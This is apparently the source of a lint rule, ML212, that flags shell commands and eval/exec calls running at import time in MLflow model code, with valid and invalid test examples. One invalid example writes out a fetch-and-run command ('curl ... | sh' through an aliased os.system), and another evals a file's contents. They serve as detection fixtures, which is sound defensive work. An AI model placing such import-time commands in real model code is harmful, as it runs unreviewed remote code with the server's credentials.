from __future__ import annotations

from collections.abc import Iterator

from modellint.analyzer.command_sinks import command_call
from modellint.analyzer.model_dir import ModelDir
from modellint.findings import Finding, Severity
from modellint.rules._base import Invalid, Rule, Valid, examples
from modellint.rules._code_examples import code_model, loaded_code_model
from modellint.rules._examples import MODELS_FROM_CODE_MLMODEL, model_files

_INSTALLS = "import subprocess\n\nsubprocess.check_call(['pip', 'install', 'lightgbm'])\n"
_SHELL = "import os as operating_system\n\noperating_system.system('curl -s https://example.com/x | sh')\n"
_EVAL = "SETTINGS = eval(open('settings.txt').read())\n"
_IN_FUNCTION = ("import subprocess\n\n\ndef gpu_name():\n"
                "    return subprocess.check_output(['nvidia-smi', '-L'], text=True)\n")
_MAIN_GUARD = "import subprocess\n\nif __name__ == '__main__':\n    subprocess.run(['pytest'])\n"


_MODEL_CODE = ("import os\n\nimport mlflow\n\nos.system('nvidia-smi')\n\n\n"
               "class Echo(mlflow.pyfunc.PythonModel):\n    def predict(self, context, model_input):\n"
               "        return model_input\n\n\nmlflow.models.set_model(Echo())\n")


class CommandAtImport(Rule):
    """## What it does
    Reports a command or code evaluation that runs as soon as the model's code is imported: a
    call outside any function of `os.system`, `os.popen`, the `os.exec*`/`os.spawn*` family,
    `subprocess.*`, `pty.spawn`, `runpy.run_*`, or the `eval`/`exec`/`compile` builtins, in a
    code-dir module that loading the model imports or in a models-from-code file (which MLflow
    runs as a whole to load the model). Calls inside functions are not reported: they run when
    called, which a static reader cannot tie to the load; code under `if __name__ == "__main__":`
    never runs on import.

    ## Why is this bad?
    It runs in the serving process on every load, before any request, with the endpoint's
    credentials: a shell command in a model nobody reviewed at that level. The common benign form,
    `pip install` at import time to add a dependency, fails on images without network access or
    a writable site-packages, and hides a requirement that belongs in `requirements.txt`.

    ## Example
    ```python
    # code/setup_env.py, imported by the model's loader
    import subprocess

    subprocess.check_call(["pip", "install", "lightgbm"])
    ```

    ## Fix
    Declare the dependency in the model's requirements instead of installing it at import; move
    anything else into the function that needs it, or out of the model.
    """

    code = "ML212"
    name = "command-at-import"
    severity = Severity.ERROR
    fix_title = "Declare the dependency, or move the call out of import time"

    VALID = examples(lambda: (
        Valid(loaded_code_model("hardware.py", _IN_FUNCTION), note="inside a function: runs when called"),
        Valid(loaded_code_model("run.py", _MAIN_GUARD), note="only when the file is run as a script"),
        Valid(loaded_code_model("paths.py", "import os\n\nHOME = os.path.join(os.sep, 'models')\n")),
        Valid(code_model({"setup_env.py": _INSTALLS}), note="a file nothing loading the model imports"),
    ))
    INVALID = examples(lambda: (
        Invalid(loaded_code_model("setup_env.py", _INSTALLS), (("code/setup_env.py", 3),), note="pip install at import time"),
        Invalid(loaded_code_model("bootstrap.py", _SHELL), (("code/bootstrap.py", 3),), note="through an alias"),
        Invalid(loaded_code_model("settings.py", _EVAL), (("code/settings.py", 1),), note="the eval builtin"),
        Invalid(model_files(MLmodel=MODELS_FROM_CODE_MLMODEL, model__skops=None, model_code__py=_MODEL_CODE),
                (("model_code.py", 5),), note="a models-from-code file: MLflow runs all of it to load the model"),
    ))

    def check(self, model: ModelDir) -> Iterator[Finding]:
        for scan in model.code_scans:
            if scan.path.suffix != ".py" or not scan.loaded:
                continue  # by-value pickled code is ML302's: it knows when that code runs
            for call in scan.calls:
                if call.lazy or call.type_checking or call.main_guarded:
                    continue
                shown = command_call(call.function, call.resolved)
                if shown is not None:
                    yield self.finding(scan.path, f"`{shown}` runs as soon as `{scan.path.name}` is imported "
                                                  "(outside any function), so every load of the model runs it",
                                       call.span)
